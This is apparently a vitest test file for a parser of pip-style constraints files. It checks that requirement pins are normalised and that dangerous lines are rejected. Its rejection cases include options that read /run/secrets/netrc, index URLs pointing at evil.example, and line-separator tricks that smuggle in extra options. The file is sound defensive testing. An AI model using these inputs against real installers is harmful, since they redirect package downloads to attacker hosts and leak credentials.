import { describe, expect, it } from 'vitest';
import { DiagnosticError } from '../diagnostics/diagnostic.ts';
import { SourceText } from '../diagnostics/source-text.ts';
import { constraintLines } from './constraints.ts';

function read(text: string): string | readonly string[] {
  try {
    return constraintLines(new SourceText('constraints.txt', text));
  } catch (error) {
    if (!(error instanceof DiagnosticError)) throw error;
    return error.diagnostics.map(({ code, span }) => `${code} ${span?.start.line ?? 0}`);
  }
}

describe('a constraints file', () => {
  it('becomes its requirements, one on a line', () => {
    const hash = `--hash=sha256:${'a'.repeat(64)}`;
    const text = `# pins\na==1.0\n\n b >= 2 ; python_version < '3.9' # old\nc==1 \\\n    ${hash}\nd @ https://files.example/d-1.tar.gz\n`;
    expect(read(text)).toBe(
      `a==1.0\nb >= 2 ; python_version < '3.9'\nc==1 ${hash}\nd @ https://files.example/d-1.tar.gz\n`,
    );
    expect(read('')).toBe('');
    expect(read('# nothing\n')).toBe('');
  });

  it.each([
    '-c /run/secrets/netrc',
    '-r /run/secrets/pip.conf',
    '--requirement=/run/secrets/netrc',
    '--index-url https://evil.example/simple',
    '--extra-index-url=https://evil.example/simple',
    '-f https://evil.example',
    '--no-index',
    '--pre',
    '-e .',
    '--trusted-host evil.example',
    'a==1 --index-url https://evil.example',
    'a==1 --config-settings=x=y',
    'a @ https://evil.example/${UV_INDEX}',
    'a==1 --hash=sha256:zz',
    '/run/secrets/netrc',
    'https://evil.example/a-1-py3-none-any.whl',
    'a==1\u000b-c /run/secrets/netrc',
    'a==1\u0085b==2',
    'a==1\u2028-r x',
  ])('has no %j', (line) => {
    expect(read(`b==2\n${line}\n`)).toEqual(['constraint-syntax 2']);
  });

  it('reports all faulty lines', () => {
    expect(read('-c x\na==1\n--pre\n')).toEqual(['constraint-syntax 1', 'constraint-syntax 3']);
  });
});
